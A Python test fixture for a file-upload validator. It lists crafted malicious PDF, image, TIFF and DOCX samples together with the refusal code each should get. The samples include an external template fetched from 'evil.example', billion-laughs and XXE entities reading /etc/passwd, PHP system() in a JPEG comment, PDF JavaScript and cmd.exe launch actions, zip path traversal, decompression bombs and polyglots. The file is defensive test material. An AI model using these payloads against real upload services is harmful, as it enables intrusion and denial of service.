"""The files that are refused: what each is called, what it is, under which code it is refused."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

from tests.formats.papers import (
    MINIMAL,
    TYPES,
    WORDS,
    XML,
    archive,
    bomb,
    docx,
    endless_lists,
    going_in_circles,
    jpeg_of,
    jpeg_saying,
    locked_archive,
    lying_of_sizes,
    many_parts,
    nested_pages,
    object_stream,
    overlapping,
    pdf,
    picture,
    png,
    png_of,
    relations,
    tiff,
)

_EXTERNAL = 'Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"'
_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "&{a};&{a};&{a};">' for a, b in ("ab", "bc"))
    + "]><a>&c;</a>"
)

#: What happens -> the name it is sent under, its bytes, the code of the refusal.
ATTACKS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "nothing": ("kosong.pdf", lambda: b"", "paper_empty"),
    "a program": ("surat.pdf", lambda: b"MZ" + bytes(500), "paper_kind_unknown"),
    "a page of the web": ("surat.pdf", lambda: b"<html><script>alert(1)</script>", "paper_kind_unknown"),
    "a drawing that runs": ("foto.png", lambda: b"<svg onload='alert(1)'/>", "paper_kind_unknown"),
    "a GIF that is a script": ("foto.png", lambda: b"GIF89a/*" + bytes(50) + b"*/=1;alert(1)", "paper_kind_unknown"),
    "a program called PDF twice": ("surat.pdf.exe", pdf, "paper_mislabelled"),
    "a PNG called PDF": ("surat.pdf", lambda: picture("PNG"), "paper_mislabelled"),
    "a PDF called PNG": ("foto.png", pdf, "paper_mislabelled"),
    "a PDF behind a page": ("surat.pdf", lambda: b"<html>" + pdf(), "paper_two_in_one"),
    "a PDF that begins with a page": (
        "surat.pdf",
        lambda: pdf().replace(b"%\xe2\xe3", b"%<html>", 1),
        "paper_two_in_one",
    ),
    "a PDF and an archive": ("surat.pdf", lambda: pdf() + archive({"a": "b"}), "paper_two_in_one"),
    "a PDF and something behind": ("surat.pdf", lambda: pdf() + b"rm -rf", "paper_two_in_one"),
    "half a PDF": ("surat.pdf", lambda: pdf()[:-40], "paper_damaged"),
    "a PDF of rubbish": ("surat.pdf", lambda: b"%PDF-1.7\n" + bytes(range(1, 200)) * 5 + b"\n%%EOF", "paper_damaged"),
    "a PDF without a page": ("surat.pdf", lambda: pdf(pages=0), "pdf_without_pages"),
    "a PDF of 501 pages": ("surat.pdf", lambda: pdf(pages=501), "paper_too_many_pages"),
    "a locked PDF": (
        "surat.pdf",
        lambda: pdf(
            b"<< /Filter /Standard /V 1 /R 2 /O <" + b"00" * 32 + b"> /U <" + b"11" * 32 + b"> /P -4 >>",
            trailer=b"/Encrypt 100 0 R /ID [<00><00>]",
        ),
        "pdf_locked",
    ),
    "a PDF with a program": (
        "surat.pdf",
        lambda: pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", catalogue=b"/OpenAction 100 0 R"),
        "pdf_live",
    ),
    "a PDF with a disguised program": (
        "surat.pdf",
        lambda: pdf(b"<< /S /J#61vaScr#69pt /JS (x) >>", catalogue=b"/OpenAction 100 0 R"),
        "pdf_live",
    ),
    "a PDF with a packed program": (
        "surat.pdf",
        lambda: pdf(object_stream(b"<< /S /JavaScript /JS (x) >>")),
        "pdf_live",
    ),
    "a PDF packed strangely": (
        "surat.pdf",
        lambda: pdf(object_stream(b"", b"[/ASCIIHexDecode /FlateDecode]", b"789c03>")),
        "pdf_opaque",
    ),
    "a PDF that explodes": (
        "surat.pdf",
        lambda: pdf(object_stream(b"", packed=zlib.compress(bytes(80_000_000), 9))),
        "paper_too_hard_to_open",
    ),
    "a PDF of endless streams": (
        "surat.pdf",
        lambda: pdf(b"[" + b"/ObjStm" * 6_000 + b"]", *[object_stream(b"null")] * 2),
        "pdf_opaque",
    ),
    "a PDF of thousands of streams": (
        "surat.pdf",
        lambda: pdf(*[object_stream(b"null")] * 5_001),
        "paper_too_hard_to_open",
    ),
    "a PDF that starts a program": ("surat.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_live"),
    "a PDF that carries a file": (
        "surat.pdf",
        lambda: pdf(b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
        "pdf_live",
    ),
    "a JPEG and an archive": ("foto.jpg", lambda: picture("JPEG") + archive({"a": "b"}), "paper_two_in_one"),
    "a JPEG and a page": ("foto.jpg", lambda: picture("JPEG") + b"<html>", "paper_two_in_one"),
    "a JPEG with PHP in its comment": (
        "foto.jpg",
        lambda: jpeg_saying(0xFE, b"<?php system('id');"),
        "paper_two_in_one",
    ),
    "a JPEG that is a PHAR": ("foto.jpg", lambda: jpeg_saying(0xFE, b"__HALT_COMPILER(); ?>"), "paper_two_in_one"),
    "a JPEG with an archive inside": (
        "foto.jpg",
        lambda: (
            picture("JPEG")[:-2]
            + b"\xff\xfe"
            + struct.pack(">H", 2 + len(archive({"a": "b"})))
            + archive({"a": "b"})
            + b"\xff\xd9"
        ),
        "paper_two_in_one",
    ),
    "a JPEG that is a script": (
        "foto.jpg",
        lambda: b"\xff\xd8\xff\xe0/*" + bytes(0x2F2A - 2) + picture("JPEG")[2:],
        "paper_two_in_one",
    ),
    "a JPEG with a PDF inside": ("foto.jpg", lambda: jpeg_saying(0xFE, b"%PDF-1.7"), "paper_two_in_one"),
    "half a JPEG": ("foto.jpg", lambda: picture("JPEG", size=(200, 200))[:-900], "paper_damaged"),
    "a JPEG of billions of dots": ("foto.jpg", lambda: jpeg_of(65_000, 65_000), "picture_too_large"),
    "a PNG of billions of dots": ("foto.png", lambda: png_of(60_000, 60_000), "picture_too_large"),
    "a PNG that lacks its dots": ("foto.png", lambda: png_of(7_000, 7_000), "paper_damaged"),
    "half a PNG": ("foto.png", lambda: picture("PNG")[:-30], "paper_damaged"),
    "a changed PNG": ("foto.png", lambda: picture("PNG").replace(b"IDATx", b"IDATy", 1), "paper_damaged"),
    "a PNG and a page": ("foto.png", lambda: picture("PNG") + b"<script>", "paper_two_in_one"),
    "a PNG that moves": (
        "foto.png",
        lambda: picture("PNG")[:33] + png((b"acTL", struct.pack(">II", 9_000, 0)))[8:] + picture("PNG")[33:],
        "paper_too_many_pages",
    ),
    "a TIFF of 201 pages": ("pindai.tif", lambda: tiff(201), "paper_too_many_pages"),
    "a TIFF that goes round in circles": ("pindai.tif", going_in_circles, "paper_damaged"),
    "a TIFF of endless lists": ("pindai.tif", endless_lists, "paper_damaged"),
    "a TIFF of nested pages": ("pindai.tif", nested_pages, "paper_damaged"),
    "half a TIFF": ("pindai.tif", lambda: tiff()[:-200], "paper_damaged"),
    "a TIFF and something behind": ("pindai.tif", lambda: tiff() + b"#!/bin/sh\n" * 10, "paper_two_in_one"),
    "an archive": ("berkas.docx", lambda: archive({"a.txt": "b"}), "docx_not_word"),
    "a spreadsheet called DOCX": (
        "berkas.docx",
        lambda: docx(**{"[Content_Types].xml": TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")}),
        "docx_not_word",
    ),
    "a DOCX that is a JAR": ("berkas.docx", lambda: docx(**{"META-INF__MANIFEST.MF": "x"}), "docx_not_word"),
    "a DOCX with macros": ("berkas.docx", lambda: docx(**{"word__vbaProject.bin": b"x"}), "docx_macros"),
    "a DOCX that says it has macros": (
        "berkas.docx",
        lambda: docx(
            **{
                "[Content_Types].xml": TYPES.replace(
                    "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                    "vnd.ms-word.document.macroEnabled.main",
                )
            }
        ),
        "docx_macros",
    ),
    "a DOCX that loads its template": (
        "berkas.docx",
        lambda: docx(**{"word___rels__settings.xml.rels": relations(_EXTERNAL)}),
        "docx_loads_from_elsewhere",
    ),
    "a DOCX whose part leads out": (
        "berkas.docx",
        lambda: docx(**{"word__..__..__..__etc__cron": "x"}),
        "docx_unsafe_part",
    ),
    "a DOCX with an absolute part": ("berkas.docx", lambda: docx(__etc__passwd="x"), "docx_unsafe_part"),
    "a DOCX with an archive inside": ("berkas.docx", lambda: docx(word__a=archive({"b": "c"})), "docx_things_inside"),
    "a DOCX with a program inside": (
        "berkas.docx",
        lambda: docx(**{"word__media__image1.png": b"MZ" + bytes(99)}),
        "docx_things_inside",
    ),
    "a DOCX with an object inside": (
        "berkas.docx",
        lambda: docx(**{"word__embeddings__oleObject1.bin": b"x"}),
        "docx_things_inside",
    ),
    "a DOCX of ten gigabytes": ("berkas.docx", lambda: bomb(10), "docx_bomb"),
    "a DOCX of thousands of parts": ("berkas.docx", lambda: many_parts(2_500), "docx_bomb"),
    "a DOCX whose parts overlap": ("berkas.docx", overlapping, "docx_parts_overlap"),
    "a DOCX with a part twice": ("berkas.docx", lambda: docx(WORD__document_xml=b""), "docx_not_word"),
    "a locked DOCX": ("berkas.docx", locked_archive, "docx_locked"),
    "a DOCX with a billion laughs": ("berkas.docx", lambda: docx(word__document2=XML + _LAUGHS), "docx_entities"),
    "a DOCX with an outer entity": (
        "berkas.docx",
        lambda: docx(**{"word__a.xml": XML + '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}),
        "docx_entities",
    ),
    "a DOCX that cannot be read": ("berkas.docx", lambda: docx(**{"word__document.xml": WORDS[:-9]}), "paper_damaged"),
    "a DOCX in a secret writing": (
        "berkas.docx",
        lambda: docx(**{"word__a.xml": '<?xml version="1.0" encoding="UTF-9"?><a/>'}),
        "paper_damaged",
    ),
    "a DOCX in a writing of many bytes": (
        "berkas.docx",
        lambda: docx(**{"word__a.xml": '<?xml version="1.0" encoding="Shift_JIS"?><a/>'}),
        "paper_damaged",
    ),
    "a DOCX that lies of its sizes": ("berkas.docx", lying_of_sizes, "paper_damaged"),
    "half a DOCX": ("berkas.docx", lambda: docx()[:-100], "paper_damaged"),
    "a DOCX behind a program": ("berkas.docx", lambda: docx() + b"MZ", "paper_two_in_one"),
    "a DOCX with a hidden front": ("berkas.docx", lambda: b"PK\x03\x04" + bytes(60) + docx(), "paper_two_in_one"),
    "a DOCX that is a PDF": ("berkas.docx", lambda: archive({"%PDF-1.7": "x"} | MINIMAL), "paper_two_in_one"),
}
